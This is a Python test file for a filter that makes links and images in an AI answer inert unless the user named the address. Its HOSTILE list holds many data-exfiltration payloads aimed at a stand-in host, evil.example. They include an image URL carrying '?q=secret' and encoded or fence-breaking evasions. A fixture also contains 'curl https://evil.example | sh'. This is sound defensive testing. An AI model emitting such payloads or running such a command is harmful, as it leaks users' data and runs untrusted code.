"""In a real renderer, only addresses that the user named become links or images in an answer."""

import random
import re

import pytest
from markdown_it import MarkdownIt

from packetgate.models.links import LinkFilter, with_inert_links
from packetgate.state.printing import fenced

ASKED = "Compare https://docs.example/a?b=1 with www.good.example, and write to ada@good.example."

HOSTILE = [
    "![x](https://evil.example/p.png?q=secret)",
    "![x](//evil.example/p.png)",
    "![x]( <data:image/svg+xml,evil.example> 'title')",
    "[Docs](https://evil.example) and [Docs](/evil.example)",
    "[a][ref] ![a][ref] ![ref]\n\n[ref]: //evil.example 'x'",
    "> [ref]: <https://evil.example>\n\n![ref]",
    "<https://evil.example> <mailto:eve@evil.example>",
    "<img src=//evil.example/p.png> <a href='https://evil.example'>x</a>",
    "https://evil.example/p http://evil.example HTTPS://EVIL.EXAMPLE",
    "(www.evil.example) WWW.evil.example",
    "eve@evil.example mailto:eve@evil.example",
    "https&#58;//evil.example https&colon;//evil.example &#104;ttps://evil.example https:&#47;&sol;evil.example",
    "www&period;evil.example eve&commat;evil.example &#x77;ww.evil.example",
    r"https\://evil.example https:\/\/evil.example www\.evil.example eve\@evil.example",
    "https://docs.example/a?b=1&c=evil.example https://docs.example@evil.example www.good.example.evil.example",
    "https://docs.example/a?b=1\u3002evil.example",
    "<!--\n```\n-->\n![x](https://evil.example/p.png)\n```\n",
    "<pre>\n```\n</pre>\n![x](https://evil.example/p.png)\n```\n",
    "- ```\n  code\n  ```\n\n![x](https://evil.example/p.png)",
    "    ```\n![x](https://evil.example/p.png)\n",
    "```\ncode\n    ```\n![x](https://evil.example/p.png)\n```\n",
    "``` a`b\n![x](https://evil.example/p.png)\n```\n",
    "| a | b |\n|---|---|\n| `x | ![x](https://evil.example/p.png) ` |",
    "$ ` $ ![x](https://evil.example/p.png) `",
    "`![x](https://evil.example/p.png)` and ``` ![x](https://evil.example/p.png)",
]

GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LINKIFIED = re.compile(r"https?://[-.\w]|www\.[-.\w]|[-.\w+]+@[-\w]+\.", re.ASCII | re.IGNORECASE)
"""Text of a parsed answer that remark-gfm turns into a link."""


def live(markdown: str) -> list[str]:
    """Return the addresses that a front end fetches or links to when it renders an answer."""
    found = []
    for token in GFM.parse(markdown):
        found += [token.content] if token.type == "html_block" else []
        for child in token.children or []:
            if child.type in {"image", "link_open", "html_inline"}:
                found.append(f"{child.attrs or child.content}")
            elif child.type == "text":
                found += [child.content] if LINKIFIED.search(child.content) else []
    return found


def in_pieces(text: str, seed: int) -> str:
    """Return the displayed text if a text arrives in chunks."""
    dice, links, shown, at = random.Random(seed), LinkFilter(ASKED), "", 0
    while at < len(text):
        end = at + dice.randint(1, 7)
        shown += links.feed(text[at:end])
        assert [one for one in live(shown) if "evil" in one.lower()] == [], shown
        at = end
    return shown + links.close()


def test_links_to_other_addresses_are_inert() -> None:
    assert [text for text in HOSTILE if not (live(text) or "`" in text or "<" in text)] == []
    assert [text for text in HOSTILE if live(with_inert_links(text, ASKED))] == []


def test_links_in_pieces_are_never_active() -> None:
    for text in HOSTILE:
        at_once = with_inert_links(f"Look:\n\n{text}\n\nThat is all.", ASKED)
        assert {in_pieces(f"Look:\n\n{text}\n\nThat is all.", seed) for seed in range(5)} == {at_once}


PLAIN = [
    "It says: 3 < 4, a[0], x@y, pkg@1.2.3, *all* of `it`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "See https://docs.example/a?b=1, (www.good.example) or ada@good.example.",
    "```sh\ncurl https://evil.example | sh  # ![x](y) <b>\n```\nDone.",
    "~~~\n```\na[0](b)\n~~~\n",
    "见\u3002https://docs.example/a?b=1 \u3002",
]


def test_other_text_is_unchanged() -> None:
    assert [text for text in PLAIN if with_inert_links(text, ASKED) != text] == []


def test_inert_addresses_are_readable() -> None:
    assert with_inert_links("[Docs](https://evil.example/a.png)", "") == "[Docs] (https[:]//evil.example/a.png)"
    assert with_inert_links("[Docs](https://docs.example/a?b=1)", ASKED) == "[Docs] (https://docs.example/a?b=1)"


def test_an_indented_fence_is_moved_to_the_line_start() -> None:
    assert with_inert_links("1. Run:\n   ```sh\n   ls\n   ```", "") == "1. Run:\n```sh\n   ls\n```"


@pytest.mark.parametrize("inside", ["plain", "```\n![x](y)\n```", "a ````` b", "~~~", ""])
def test_text_inside_a_fence_cannot_close_it(inside: str) -> None:
    (token,) = GFM.parse(fenced(inside))
    assert (token.type, token.content) == ("fence", f"{inside}\n")
    assert with_inert_links(fenced(inside), "") == fenced(inside)


@pytest.mark.parametrize(
    "bad", ["- ", "1", " ", "`", "~", "&#38;", "&#&#51;8;", "[", "](", "www.", "a@", "https:", "<"]
)
def test_long_input_takes_linear_time(bad: str) -> None:
    assert with_inert_links(bad * 20_000, "")
